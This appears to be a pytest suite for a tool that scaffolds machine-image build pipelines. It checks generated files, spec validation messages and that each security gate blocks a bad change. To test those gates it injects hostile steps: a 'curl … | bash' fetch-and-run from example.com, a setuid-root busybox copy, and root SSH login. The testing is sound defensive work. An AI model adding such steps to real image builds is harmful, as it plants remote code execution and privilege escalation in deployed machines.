"""Kind machine of the type compute-image: what `dpra new` makes, what stops it, what is promised."""

import json
import os
import subprocess
from pathlib import Path
from typing import Any

import pytest
from dpra import catalogue, problems, render
from dpra.rehearsal import scenarios
from dpra.spec import reader

AS_ROOT = pytest.mark.skipif(
    os.geteuid() != 0, reason="a machine's commands run in a chroot, which only root can enter"
)
SPEC = (Path(__file__).parent / "specs/machine.yml").read_text("utf-8")
ROWS = [row for row in scenarios.table("compute-image") if row.get("needs", {}).get("kind", "machine") == "machine"]


def new(dpra: Any, folder: Path, with_: str = "image-builder") -> Path:
    values = ("name=base", "pipeline=compute-image", "kind=machine", f"with={with_}")
    done = dpra("new", "--no-input", "-o", folder, *values, cwd=folder)
    assert done.returncode == 0, done.stderr
    return folder / "base"


@pytest.fixture
def base(dpra: Any, tmp_path: Path) -> Path:
    return new(dpra, tmp_path)


@pytest.mark.parametrize("with_", ["image-builder", "packer"])
def test_what_is_new_is_checked_linted_and_planned_with_every_action_of_dpra(
    dpra: Any, tmp_path: Path, compute_image: Any, with_: str
) -> None:
    base = new(dpra, tmp_path, with_)
    assert dpra("check", cwd=base).returncode == 0
    for words in (
        ["actionlint"],
        ["zizmor", "--persona", "auditor", "--offline", "--quiet", "."],
        ["cfn-lint", *sorted(base.glob("infrastructure/**/*.yml"))],
        ["check-jsonschema", "--schemafile", ".github/dpra.schema.json", "dpra.yml"],
    ):
        done = subprocess.run(words, cwd=base, capture_output=True, text=True, check=False)
        assert done.returncode == 0, done.stdout + done.stderr
    found: dict[str, set[str]] = {}
    for one in json.loads(dpra("plan", "--format", "json", cwd=base).stdout)["actions"]:
        found.setdefault(one["stage"], set()).add(one["action"])
        assert one["status"] != "left-out" or one["reason"].startswith("on demand"), one
    for stage, names in compute_image.items():
        assert names <= found[stage], stage
    assert (base / "components").is_dir() is (with_ == "image-builder")
    assert (base / "packer/image.pkr.hcl").is_file() is (with_ == "packer")


def test_packer_goes_together_with_a_machine(dpra: Any, tmp_path: Path) -> None:
    for values, told in (
        (("pipeline=compute-image", "with=packer"), "with: goes together with kind=machine"),
        (("with=packer",), "with: goes together with pipeline=compute-image"),
    ):
        done = dpra("new", "--no-input", "-o", tmp_path, "name=base", *values, cwd=tmp_path)
        assert done.returncode == 2
        assert told in done.stderr


@pytest.mark.parametrize(
    ("image", "told"),
    [
        ("{kind: machine}", "image.parent: a machine's image is made from an AMI"),
        ("{kind: machine, parent: debian}", "image.parent: must be the name of a parameter"),
        ("{kind: machine, parent: /debian, file: Other}", "image.file: goes together with kind: container"),
        ("{kind: machine, parent: /debian, vpc: vpc-0a1b2c3d}", "image.vpc: vpc and subnet go together"),
        ("{kind: machine, parent: /debian, with: packer, size: 9}", "image.size: goes together with: with: image-b"),
        (
            "{kind: machine, parent: /debian, with: packer, inspector: true}",
            "image.inspector: goes together with: with",
        ),
        ("{with: packer}", "image.with: goes together with kind: machine"),
        ("{parent: /debian, inspector: true}", "image.inspector: goes together with kind: machine"),
        ("{kind: machine, parent: /debian, organization: o-a1b2c3d4e5}", "image.organization: AMIs are shared"),
    ],
)
def test_what_a_machine_cannot_be_made_of_is_told(dpra: Any, tmp_path: Path, image: str, told: str) -> None:
    text = SPEC[: SPEC.index("image:")] + f"image: {image}\n"
    (tmp_path / "dpra.yml").write_text(text)
    done = dpra("plan", cwd=tmp_path)
    assert done.returncode == 2
    assert told in done.stderr


def test_packer_is_refused_where_it_tags_nothing_as_it_is_made() -> None:
    text = SPEC.replace("eu-west-1", "cn-north-1").replace("us-east-1", "cn-northwest-1")
    assert problems.planned(reader.read(text.encode(), catalogue.words())).partition == "aws-cn"
    text = text.replace("{kind: machine,", "{kind: machine, with: packer,")
    with pytest.raises(problems.PlanError) as raised:
        problems.planned(reader.read(text.encode(), catalogue.words()))
    assert raised.value.problems == {"image.with": "Packer cannot make images in China: say image-builder"}


def test_inspector_is_asked_where_the_spec_says_so_and_nowhere_else(dpra: Any, tmp_path: Path) -> None:
    def made(text: str) -> tuple[Any, str, str]:
        plan = problems.planned(reader.read(text.encode(), catalogue.words()))
        files = {path: str(file.content) for path, file in render.files(plan).items()}
        roles = "".join(text for path, text in files.items() if "infrastructure/" in path)
        return plan.tools["vulnerability-assessment"], files[".github/workflows/pipeline.yml"], roles

    tools, workflow, roles = made(SPEC)
    assert tools == ("trivy",)
    assert "inspector" not in (workflow + roles).lower()
    said = SPEC.replace("image: {", "image: {inspector: true, ")
    tools, workflow, roles = made(said)
    assert tools == ("trivy", "inspector")
    assert workflow.count("inspector: true") == 1
    assert "tool: trivy inspector" in workflow
    for right in ("imagebuilder:ListImageScanFindings", "inspector2:ListFindings"):
        assert roles.count(right) == 1
    asked = "actions: {vulnerability-assessment: {tool: inspector}}\n"
    assert made(said + asked)[0] == ("inspector",)
    (tmp_path / "dpra.yml").write_text(SPEC + asked)
    done = dpra("plan", cwd=tmp_path)
    assert done.returncode == 2
    assert "vulnerability-assessment.tool: inspector goes together with image.inspector: true" in done.stderr


def test_only_the_jobs_that_need_it_have_a_role_and_a_pull_request_has_none() -> None:
    plan = problems.planned(reader.read(SPEC.encode(), catalogue.words()))
    assert not [job.id for job in plan.workflows["pull-request"].jobs.values() if job.role]
    own = {job.id for one in plan.workflows.values() for job in one.jobs.values() if job.role and not job.trusted}
    assert own == {"image-tests"}


def test_the_promises_are_those_of_machines() -> None:
    assert len(ROWS) >= 12


def stopped(dpra: Any, folder: Path, only: str) -> str:
    """What a rehearsal of the working tree says, which does not pass."""
    done = dpra("rehearse", "--offline", "--only", only, cwd=folder)
    assert done.returncode == 1, done.stdout
    return str(done.stdout + done.stderr)


@pytest.mark.slow
@AS_ROOT
def test_each_gate_of_a_machine_blocks_by_itself(dpra: Any, needs: Any, base: Path) -> None:
    """A component that trusts a download, one that breaks its promise, a file that makes root, a failing test."""
    needs("busybox")
    path = base / "components/20-hardening.yml"
    text = path.read_text()
    path.write_text(text.replace("mkdir -p", "curl -f https://example.com/i.sh | bash && mkdir -p"))
    assert "stopped at: security / policy-as-code\n" in stopped(dpra, base, "security")
    path.write_text(text.replace("PermitRootLogin no\\n", "PermitRootLogin yes\\n"))
    told = stopped(dpra, base, "build")
    assert "stopped at: build / build-environment\n" in told
    assert "20-hardening" in told
    assert "validate.no-login-by-password: exit code 1" in told  # of its log
    path.write_text(text.replace("chmod a-s {} +", "chmod a-s {} + && cp /bin/busybox /opt/x && chmod 4755 /opt/x"))
    (base / "tests/integration/no-file-makes-root").unlink()
    assert "stopped at: scan / hardening-check\n" in stopped(dpra, base, "scan")
    path.write_text(text)
    (base / "tests/integration/fails").write_text("#!/bin/sh\nexit 1\n")
    (base / "tests/integration/fails").chmod(0o755)
    assert "stopped at: image-tests / integration-tests\n" in stopped(dpra, base, "image-tests")


@pytest.mark.slow
@AS_ROOT
def test_each_gate_of_an_image_by_packer_blocks_by_itself(dpra: Any, needs: Any, tmp_path: Path) -> None:
    """A port that is opened, a script that fails, a file that makes root, a failing test."""
    needs("busybox", "packer")
    base = new(dpra, tmp_path, "packer")
    template, script = base / "packer/image.pkr.hcl", base / "packer/scripts/90-last.sh"
    said, text = template.read_text(), script.read_text()
    template.write_text(said.replace('"session_manager"', '"public_ip"'))
    assert "stopped at: security / policy-as-code\n" in stopped(dpra, base, "security")
    template.write_text(said)
    script.write_text(text.replace("rm -f", "grep -q nothing-like-it /etc/os-release\nrm -f"))
    told = stopped(dpra, base, "bake")
    assert "stopped at: bake / build-environment\n" in told
    assert "packer build failed with exit code 1" in told
    script.write_text(f"{text}cp /bin/busybox /opt/x\nchmod 4755 /opt/x\n")
    (base / "tests/integration/no-file-makes-root").unlink()
    assert "stopped at: scan / hardening-check\n" in stopped(dpra, base, "scan")
    script.write_text(text)
    (base / "tests/integration/fails").write_text("#!/bin/sh\nexit 1\n")
    (base / "tests/integration/fails").chmod(0o755)
    assert "stopped at: image-tests / integration-tests\n" in stopped(dpra, base, "image-tests")


@pytest.mark.slow
@AS_ROOT
def test_the_promises_are_kept_in_every_region_of_every_wave(dpra: Any, needs: Any, tmp_path: Path) -> None:
    """What only a whole run shows of machines; `--scenario all` plays all of them, in eight minutes."""
    needs("busybox")
    values = ("name=base", "pipeline=compute-image", "kind=machine", "waves=3")
    regions = "regions=eu-west-1,us-east-1,us-west-2"
    assert dpra("new", "--no-input", "-o", tmp_path, *values, regions, cwd=tmp_path).returncode == 0
    wanted = ["a-sweep", "a-look-that-is-left", "a-region-that-takes-no-copy", "a-newer-parent"]
    out, words = tmp_path / "scenarios.json", [word for one in wanted for word in ("--scenario", one)]
    done = dpra("rehearse", "--offline", *words, "--json", out, cwd=tmp_path / "base")
    assert done.returncode == 0, done.stdout + done.stderr
    proofs = json.loads(out.read_text())["scenarios"]
    assert {one["id"] for one in proofs} == set(wanted)
    assert all(one["kept"] and one["applicable"] and not one["problems"] for one in proofs)
